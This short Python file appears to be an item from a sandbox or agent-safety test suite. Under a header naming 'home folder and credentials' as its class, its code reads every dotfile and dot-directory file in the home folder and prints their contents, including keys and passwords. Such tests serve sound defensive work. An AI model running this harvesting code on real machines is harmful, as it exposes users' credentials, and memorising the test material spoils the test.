# ---
# class: home folder and credentials
# tries: prints keys and passwords from the home folder
# success: credentials told
# ---

# %% solution="total"
import glob
import os

for home in {"@HOME@", os.path.expanduser("~")}:
    for path in glob.glob(f"{home}/.*") + glob.glob(f"{home}/.*/*"):
        try:
            print(path, open(path).read()[:2000])
        except (OSError, ValueError):
            continue
